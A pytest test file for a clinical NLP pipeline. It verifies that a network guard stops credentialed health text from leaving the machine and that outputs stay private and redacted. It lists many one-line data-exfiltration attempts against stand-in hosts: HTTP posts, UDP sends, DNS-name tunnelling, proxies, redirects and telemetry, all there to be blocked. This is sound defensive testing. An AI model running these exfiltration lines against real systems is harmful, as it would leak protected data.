"""Credentialed text stays on the machine: each way out that is known is tried."""

import _socket
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

import pytest
import yaml
from fake_openai import FakeServer
from tiny_model import make_model, make_tokenizer, rows_of, write_rows

from data_prep import build_documents, egress
from data_prep.files import write_jsonl
from data_prep.schema import BadInput
from evaluation import generate, score
from evaluation.tasks import mibe
from tests.lab import ROOT, SFT, build_lab, copied, recipe

LICENSE = "PhysioNet Credentialed Health Data License 1.5.0"
CLOSED = {"access": "credentialed", "license": LICENSE}
MARK = "quillfever"  # a word of the invented credentialed notes
ENTRY = {
    "endpoint": "http://llm.hospital.example/v1",
    "agreement": "contract 2026-117",
    "person": "A. Example",
    "date": "2026-11-01",
}


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    return build_lab(tmp_path_factory.getbasetemp() / "lab")


@pytest.fixture(scope="module")
def closed(lab):
    """The lab with rows of access class credentialed beside the others."""
    for split in ("train", "validation"):
        rows = [
            json.loads(line) | CLOSED
            for line in (lab / "rows" / f"{split}.jsonl").read_text().splitlines()
            if "prompt" in line
        ]
        rows = [row | {"prompt": f"Is {MARK} there?\n"} if "prompt" in row else row for row in rows]
        write_jsonl(lab / "closed" / f"{split}.jsonl", rows)
    (lab / "closed" / "manifest.json").write_text(json.dumps({"access": "credentialed"}))
    return {**SFT, "rows": "closed", "output_dir": "closed_run", "max_steps": 2, "save_steps": 1}


def allow_list(path, *entries):
    lines = [
        [f"{key}: {value if key == 'date' else json.dumps(value)}" for key, value in entry.items()]
        for entry in entries
    ]
    path.write_text("".join(f"- {{{', '.join(line)}}}\n" for line in lines))
    return str(path)


# ---------------------------------------------------------------- the process
ESCAPES = {
    "requests": "import requests; requests.post('http://192.0.2.1/', data='note')",
    "urllib": "import urllib.request; urllib.request.urlopen('https://collect.example/')",
    "aiohttp": "import aiohttp, asyncio\nasync def go():\n async with aiohttp.ClientSession() as s: await s.post('http://192.0.2.1/')\nasyncio.run(go())",
    "httpx": "import httpx; httpx.post('https://collect.example/', content='note')",
    "a bare socket": "import socket; socket.socket().connect(('192.0.2.1', 80))",
    "a datagram": "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'note', ('192.0.2.1', 53))",
    "a name that carries text": "import socket; socket.getaddrinfo('note.collect.example', 80)",
    "a reverse look-up": "import socket; socket.gethostbyaddr('note.collect.example')",
    "the name of an address": "import socket; socket.getnameinfo(('192.0.2.1', 80), 0)",
    "IPv6": "import socket; socket.socket(socket.AF_INET6).connect(('2001:db8::1', 80))",
    "a proxy": "import os, urllib.request; assert 'https_proxy' not in os.environ; urllib.request.urlopen('http://192.0.2.9:3128/')",
    "a push to the Hub": "from huggingface_hub import HfApi; HfApi(token='hf_x').create_repo('org/notes')",
    "telemetry of the Hub's client": "from huggingface_hub.utils import _telemetry as t; t._send_telemetry_in_thread('notes', library_name='x')",
    "a dataset of the Hub": "import datasets; datasets.load_dataset('org/notes')",
    "a thread": "import concurrent.futures, urllib.request as u; concurrent.futures.ThreadPoolExecutor().submit(u.urlopen, 'http://192.0.2.1').result()",
    "an address in bytes": "import socket; socket.socket().connect((bytearray(b'192.0.2.1'), 80))",
    "the host of a virtual machine": "import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 9999))",
    "a redirect": "import urllib.request; urllib.request.urlopen(REDIRECTS)",
}
SCRIPT = """
import http.server, os, sys, threading
os.environ |= {"https_proxy": "http://192.0.2.9:3128", "HTTP_PROXY": "http://192.0.2.9:3128"}
import huggingface_hub, datasets
from data_prep import egress

class Out(Exception): pass

class Redirect(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302); self.send_header("Location", "http://192.0.2.7/"); self.end_headers()
    def log_message(self, *_): pass
server = http.server.HTTPServer(("127.0.0.1", 0), Redirect)
threading.Thread(target=server.serve_forever, daemon=True).start()
REDIRECTS = f"http://127.0.0.1:{server.server_address[1]}/"
egress.keep_inside(["the agreement"], Out)

passed = []  # a hook that comes after the guard's is told of what the guard has let pass
sys.addaudithook(lambda event, args: passed.append(args) if event in egress.EVENTS and "127.0.0.1" not in str(args) else None)

for name, code in ESCAPES.items():
    try:
        exec(code, {"REDIRECTS": REDIRECTS})
        print(name, "|", "no error", len(passed))
    except BaseException as error:
        print(name, "|", " ".join(f"{type(error).__name__} {error}".split()), len(passed))
"""


@pytest.fixture(scope="module")
def attempts():
    """{escape: what became of it} in a process of its own, whose sockets nobody else guards."""
    script = f"ESCAPES = {ESCAPES!r}\n{textwrap.dedent(SCRIPT)}"
    environment = {
        key: value
        for key, value in os.environ.items()
        if key not in ("HF_HUB_OFFLINE", "HF_HUB_DISABLE_TELEMETRY")
    }
    done = subprocess.run(
        [sys.executable, "-c", script],
        cwd=ROOT,
        env=environment | {"PYTHONPATH": "."},
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    return dict(line.split(" | ", 1) for line in done.stdout.splitlines())


@pytest.mark.parametrize("escape", ESCAPES)
@pytest.mark.guarantee(
    "Credentialed data",
    "A process that holds credentialed text opens no connection to another machine: clients of HTTP, sockets, datagrams, names, proxies, redirects, the Hub, telemetry.",
)
def test_no_connection_leaves_a_process_that_holds_credentialed_text(attempts, escape):
    said = attempts[escape]
    assert said.endswith(" 0"), "the guard has let a connection pass"
    if "Hub" not in escape:  # whose client is switched off before it tries
        assert said.startswith("Out credentialed text is not sent to") and "(the agreement)" in said, said


@pytest.mark.parametrize(
    "host", ["localhost", "127.0.0.1", "127.8.9.1", "::1", "::ffff:127.0.0.1", "0.0.0.0"]
)
def test_this_machine_is_here(host):
    assert egress.is_here(host)


@pytest.mark.parametrize(
    "host",
    [
        "10.0.0.8",
        "192.168.1.4",
        "169.254.169.254",
        "api.openai.com",
        "localhost.example",
        "127.0.0.1.example",
        "::2",
        "127.0.0.1%x.example",
    ],
)
@pytest.mark.guarantee("Credentialed data", "A private address is another machine.")
def test_a_private_address_is_not_this_machine(host):
    assert not egress.is_here(host)
    with pytest.raises(BadInput, match=f"not sent to {host}: its terms .T. do not"):
        egress.permit(f"http://{f'[{host}]' if ':' in host else host}:80/v1", [], ["T"], BadInput)


@pytest.mark.guarantee(
    "Credentialed data",
    "An entry of the allow list (endpoint, agreement, person, date) is the only way out, and every output made under it records it.",
)
def test_an_allow_list_names_agreement_person_and_date(tmp_path):
    path = tmp_path / "allow.yaml"
    for entry, said in (
        (
            {key: value for key, value in ENTRY.items() if key != "person"},
            "entry 1 must have endpoint, agreement, person, date",
        ),
        ({**ENTRY, "agreement": " "}, "entry 1 must have endpoint, agreement, person, date"),
        ({**ENTRY, "date": "2999-01-01"}, "date must be a day that has come"),
        ({**ENTRY, "date": "'soon'"}, "date must be a day that has come"),
        ({**ENTRY, "endpoint": "//"}, "names no host"),
        ({**ENTRY, "endpoint": 5}, "the first three as text"),
        ({**ENTRY, "person": ["A"]}, "the first three as text"),
    ):
        with pytest.raises(BadInput, match=said):
            egress.read_allow_list(allow_list(path, entry), BadInput)
    with pytest.raises(BadInput, match="no such file. Next: write an allow list"):
        egress.read_allow_list(tmp_path / "absent.yaml", BadInput)
    allowed = egress.read_allow_list(allow_list(path, ENTRY), BadInput)
    assert allowed == [ENTRY] == [egress.permit("http://llm.hospital.example:8000/x", allowed, [], BadInput)]
    with pytest.raises(BadInput):
        egress.permit("http://other.hospital.example/v1", allowed, [], BadInput)


# ---------------------------------------------------------------- training
@pytest.mark.parametrize(
    ("change", "host"),
    [
        ({"report_to": ["wandb"]}, "api.wandb.ai"),
        ({"report_to": ["comet_ml"]}, "comet_ml"),
        ({"report_to": ["wandb"], "WANDB_MODE": "offline"}, "api.wandb.ai"),
        ({"push_to_hub": True, "hub_model_id": "org/x"}, "huggingface.co"),
        ({"report_to": ["trackio"], "trackio_space_id": "org/x"}, "huggingface.co"),
    ],
)
@pytest.mark.guarantee(
    "Credentialed data",
    "A run with credentialed rows uses no remote tracker and pushes nothing, whatever its YAML allows.",
)
def test_a_run_with_credentialed_rows_uploads_nothing_whatever_its_yaml_allows(
    lab, closed, change, host, monkeypatch
):
    if "WANDB_MODE" in change:  # its files would wait to be sent
        monkeypatch.setenv("WANDB_MODE", "offline")
        change = {"report_to": change["report_to"]}
    said = recipe(lab, "sft", {**closed, **change, "allow_upload": True, "output_dir": "refused"})
    assert (
        f"credentialed text is not sent to {host}: its terms ({LICENSE})" in said
        and not (lab / "refused" / "run.json").exists()
    )


def test_an_entry_of_the_allow_list_is_the_only_way_and_is_recorded(lab, tmp_path, monkeypatch):
    monkeypatch.syspath_prepend(str(ROOT / "recipes"))
    import run_guard

    terms = {"access": "credentialed", "agreements": [LICENSE]}
    wandb = ENTRY | {"endpoint": "https://api.wandb.ai"}
    given = {"report_to": ["wandb", "tensorboard"], "allow_list": allow_list(tmp_path / "a.yaml", wandb)}
    assert run_guard.keep_on_site(terms, given) == [wandb]
    assert (
        run_guard.keep_on_site(terms, {"report_to": ["tensorboard"], "allow_list": given["allow_list"]}) == []
    ), "what is not needed is not opened"
    assert run_guard.keep_on_site({"access": "gated", "agreements": []}, {"report_to": ["wandb"]}) == []


@pytest.mark.guarantee(
    "Credentialed data",
    "What a run of credentialed rows writes, caches included, lies in its folder and is its owner's alone.",
)
def test_what_a_run_writes_stays_in_its_folder_and_is_its_owners(lab, closed, tmp_path):
    argv = copied(
        lab, "sft", {**closed, "report_to": ["tensorboard"], "packing": "isolated", "dataset_num_proc": 2}
    )
    short = tempfile.mkdtemp(dir="/tmp")  # a socket file lies in it, whose path has a limit
    elsewhere = {
        "TMPDIR": short,
        **{name: str(tmp_path / name) for name in ("HOME", "XDG_CACHE_HOME", "HF_HOME")},
    }
    kept = {key: value for key, value in os.environ.items() if key != "PYTHONPATH"}
    done = subprocess.run(
        [sys.executable, *argv], cwd=lab, env=kept | elsewhere, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert MARK not in done.stdout + done.stderr
    outside = [path for folder in (tmp_path, Path(short)) for path in folder.rglob("*") if path.is_file()]
    assert not [path for path in outside if MARK.encode() in path.read_bytes()]
    shutil.rmtree(short)
    written = [lab / "closed_run", *(lab / "closed_run").rglob("*")]
    assert len(written) > 20 and not [
        path for path in written if path.stat().st_mode & (stat.S_IRWXG | stat.S_IRWXO)
    ]


# ---------------------------------------------------------------- generation
@pytest.fixture
def world(tmp_path):
    rows = rows_of(
        "mednli", "choice", [(f"{MARK} {i}?", "neutral") for i in range(3)], choices=["neutral", "entailment"]
    )
    write_rows(tmp_path / "rows", "mednli", [row | CLOSED for row in rows])
    make_tokenizer().save_pretrained(tmp_path / "tokenizer")
    return tmp_path


def ask(world, url, *more):
    generate.main(["--model", "server", "backend=chat", f"base_url={url}", "served=fake", "access=public", "context=512", "--tasks", "mednli", "--preset", "chat",
                   "--rows", str(world / "rows"), "--out", str(world / "eval" / "x"), "--max_new_tokens", "8", *more])  # fmt: skip


def test_credentialed_rows_go_to_a_server_on_this_machine_and_are_redacted_in_what_is_scored(world, capsys):
    with FakeServer() as fake:
        fake.reply = lambda prompt: "neutral"
        ask(world, fake.url("chat"))
    out = world / "eval" / "x"
    score.main([str(out)])
    assert json.loads((out / "run.json").read_text())["allowed"] == [] and (out.stat().st_mode & 0o77) == 0
    texts = [
        path
        for path in (world / "eval").rglob("*")
        if path.is_file() and MARK in path.read_text(errors="replace")
    ]
    assert sorted(path.parent.name for path in texts) == [".responses", "x"] or {
        path.name for path in texts
    } <= {"mednli.jsonl", "run.json"}
    assert (
        not [path for path in out.rglob("*scored*") if MARK in path.read_text()]
        and MARK not in capsys.readouterr().out
    )


@pytest.mark.parametrize(
    "address", ["https://api.openai.com/v1/chat/completions", "http://10.0.0.8:8000/v1/chat/completions"]
)
def test_credentialed_rows_go_to_no_other_machine_not_even_a_private_one(world, address):
    with pytest.raises(
        SystemExit,
        match=f"credentialed text is not sent to .*its terms .{LICENSE}.*Next: .*its server at 127.0.0.1",
    ):
        ask(world, address)


def test_examples_close_a_process_too(world):
    """Public questions with credentialed examples before them."""
    options = {"choices": ["neutral", "entailment"]}
    write_rows(world / "rows", "mednli", rows_of("mednli", "choice", [("So?", "neutral")], **options))
    shots = rows_of(
        "mednli", "choice", [(f"{MARK}?", "neutral"), (f"{MARK} too?", "entailment")], "train", **options
    )
    write_rows(world / "rows", "mednli", [row | CLOSED for row in shots], "train")
    egress._inside = None  # writing them here has closed this process
    with pytest.raises(SystemExit, match="credentialed text is not sent to api.openai.com"):
        ask(world, "https://api.openai.com/v1/chat/completions", "--num_fewshot", "1")
    with FakeServer() as fake:
        fake.reply = lambda prompt: "neutral"
        ask(world, fake.url("chat"), "--num_fewshot", "1")
    run = json.loads((world / "eval" / "x" / "run.json").read_text())
    assert run["access"] == run["tasks"]["mednli"]["access"] == "credentialed" and MARK in str(fake.requests)


def test_plain_lm_eval_closes_its_process_when_it_loads_our_rows(world):
    egress._inside = None
    mibe.load("mednli", str(world / "rows"))
    assert egress.held() == [LICENSE]


def test_other_weights_do_not_come_in_unseen(world, tmp_path):
    make_model(tmp_path / "model")
    with pytest.raises(
        SystemExit, match="--backend_args: 'peft' names other weights or code. Next: merge the adapter first"
    ):
        generate.main(["--model", str(tmp_path / "model"), "--tasks", "mednli", "--preset", "paper", "--rows", str(world / "rows"),
                       "--out", str(world / "y"), "--backend_args", "peft=outputs/notes_adapter"])  # fmt: skip


@pytest.mark.guarantee("Credentialed data", "A server that redirects gets nothing through.")
def test_a_server_that_redirects_gets_nothing_through(world, monkeypatch):
    monkeypatch.setattr(socket.socket, "connect", _socket.socket.connect)  # without the tests' own guard
    with FakeServer() as fake:
        fake.redirect = "http://192.0.2.7/v1/chat/completions"
        with pytest.raises(SystemExit, match="credentialed text is not sent to 192.0.2.7"):
            ask(world, fake.url("chat"))


def test_an_allowed_server_is_asked_and_every_output_says_so(world, monkeypatch):
    look_up = socket.getaddrinfo
    monkeypatch.setattr(
        socket,
        "getaddrinfo",
        lambda host, *a, **k: look_up("127.0.0.1" if host == "llm.hospital.example" else host, *a, **k),
    )
    with FakeServer() as fake:
        fake.reply = lambda prompt: "neutral"
        url = fake.url("chat").replace("127.0.0.1", "llm.hospital.example")
        with pytest.raises(SystemExit, match="not sent to llm.hospital.example"):
            ask(world, url)
        assert fake.requests == []
        ask(world, url, "--allow_list", allow_list(world / "allow.yaml", ENTRY))
    run = json.loads((world / "eval" / "x" / "run.json").read_text())
    assert run["allowed"] == [ENTRY] and len(fake.requests) == 3


def test_what_a_server_says_of_a_credentialed_prompt_is_not_printed(world, monkeypatch):
    from evaluation.models import server

    monkeypatch.setattr(server, "PAUSES", (0.01,))
    with FakeServer() as fake:
        fake.refuse = lambda prompt: 400
        fake.complaint = lambda prompt: f"too long: {prompt}"
        with pytest.raises(SystemExit) as stop:
            ask(world, fake.url("chat"))
    assert "HTTP 400" in str(stop.value) and MARK not in str(stop.value)


# ---------------------------------------------------------------- what errors say
@pytest.mark.guarantee(
    "Credentialed data",
    "An error that nobody foresaw is printed without its message, which may quote a record.",
)
def test_a_traceback_quotes_no_record():
    script = """
import sys, threading
from data_prep import egress
class Out(Exception): pass
def read(note):
    try:
        int(note)
    except ValueError as error:
        raise KeyError(note) from error
HELD
threading.Thread(target=read, args=sys.argv[1:]).start()
read(sys.argv[1])
"""
    seen = {}
    for held in ("", "egress.keep_inside(['the agreement'], Out)"):
        arguments = [sys.executable, "-c", script.replace("HELD", held), MARK]
        seen[bool(held)] = subprocess.run(
            arguments, cwd=ROOT, env=os.environ | {"PYTHONPATH": "."}, capture_output=True, text=True
        )
    assert MARK in seen[False].stderr and MARK not in seen[True].stderr and seen[True].returncode == 1
    said = seen[True].stderr
    assert said.count("ValueError: (its message") == said.count("KeyError: (its message") == 2, (
        "in a thread, too"
    )
    assert "in read" in said


@pytest.mark.parametrize(
    "error",
    [OSError("no space left on device"), RuntimeError("CUDA out of memory"), BadInput("row 7: no text")],
)
def test_an_error_that_speaks_of_no_data_keeps_its_message(error, capsys):
    egress.keep_inside(["the agreement"], BadInput)
    sys.excepthook(type(error), error, None)
    assert str(error) in capsys.readouterr().err


@pytest.mark.guarantee("Credentialed data", "Errors and progress lines name ids, not text.")
def test_an_error_names_the_row_and_not_its_text(tmp_path):
    row = rows_of("mednli", "choice", [("So?", MARK)], choices=["neutral"])[0] | CLOSED
    with pytest.raises(BadInput, match="mednli:test:0") as error:
        write_rows(tmp_path, "mednli", [row])
    assert MARK not in str(error.value)


@pytest.mark.guarantee("Credentialed data", "The workers of a build of credentialed sources are closed too.")
def test_a_build_of_credentialed_sources_is_closed_in_its_workers_too(tmp_path, capfd):
    """The plain reader finds credentialed notes; a worker of the engine that would look up a name fails with the sentence."""
    folder = tmp_path / "raw"
    folder.mkdir()
    (folder / "source.yaml").write_text(
        yaml.safe_dump(
            {"domain": "clinical", "license": LICENSE, "access": "credentialed", "text": "text", "id": "id"}
        )
    )
    (folder / "a.jsonl").write_text(
        "".join(json.dumps({"id": str(i), "text": f"A note of {MARK}."}) + "\n" for i in range(3))
    )
    build_documents.main(["--source", f"plain={folder}", "--out", str(tmp_path / "documents")])
    assert egress.held() == [LICENSE]
    with pytest.raises(BadInput, match=f"not sent to collect.example: its terms .{LICENSE}."):
        socket.getaddrinfo("collect.example", 80)
    assert not [path for path in (tmp_path / "documents").rglob("*") if path.stat().st_mode & 0o77]
    assert MARK not in "".join(capfd.readouterr())


# ---------------------------------------------------------------- the whole chain
@pytest.mark.parametrize(
    "code", ["socket.socket().connect(('192.0.2.1', 80))", "socket.getaddrinfo('collect.example', 80)"]
)
@pytest.mark.guarantee(
    "Credentialed data",
    "The demo chain runs under a guard that ends a process at its first connection beyond this machine.",
)
def test_the_guard_under_which_ci_runs_the_demo_ends_a_process_that_reaches_out(code):
    environment = os.environ | {"PYTHONPATH": f".{os.pathsep}tests/socket_guard"}
    done = subprocess.run(
        [sys.executable, "-c", f"import socket\n{code}"],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 97 and "socket guard: socket." in done.stderr
    assert "make demo PYTHONPATH=.:tests/socket_guard" in (ROOT / ".ci" / "run").read_text()
